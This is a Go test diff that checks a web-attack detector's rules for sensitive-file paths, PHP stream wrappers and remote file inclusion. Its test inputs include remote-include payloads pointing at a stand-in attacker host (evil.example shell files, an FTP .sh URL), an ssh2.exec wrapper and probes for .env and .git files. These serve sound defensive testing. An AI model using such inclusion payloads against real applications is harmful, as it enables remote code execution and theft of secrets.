@@ -55,3 +55,39 @@ func TestCRLFInjection(t *testing.T) {
 		})
 	}
 }
+
+func TestPathFilesAndInclusion(t *testing.T) {
+	d, err := NewBuiltin(PathTraversal)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct{ in, rule string }{
+		{"/.git/objects/ab/cdef", "path.sensitive_file"},
+		{"/x/.htaccess", "path.sensitive_file"},
+		{".env.local", "path.sensitive_file"},
+		{"/.env/", ""},         // a directory named .env: no file
+		{"config/.envoy", ""},  // another name
+		{"/.well-known/x", ""}, // a public path
+		{"PHP://Memory", "path.php_wrapper"},
+		{"ssh2.exec://u:p@h/id", "path.php_wrapper"},
+		{"data://text/plain,x", "path.php_wrapper"},
+		{"data:text/plain,x", ""}, // a browser data: URL
+		{"include_once(\"https://evil.example/s\")", "path.remote_include"},
+		{"require 'php://input'", "path.remote_include"},
+		{"http://evil.example/dir/shell.txt?", "path.remote_include"},
+		{"ftp://198.51.100.7/x.sh", "path.remote_include"},
+		{"http://evil.example/dir/?", ""},      // no file name
+		{"http://evil.example/shell.php?", ""}, // a page, not a data file
+		{"see http://evil.example/shell.txt? now", ""},
+	} {
+		t.Run(c.in, func(t *testing.T) {
+			var rule string
+			for _, m := range d.Scan(nil, c.in, Input{}) {
+				rule = m.Rule
+			}
+			if rule != c.rule {
+				t.Errorf("Scan(%q) = %q, want %q", c.in, rule, c.rule)
+			}
+		})
+	}
+}
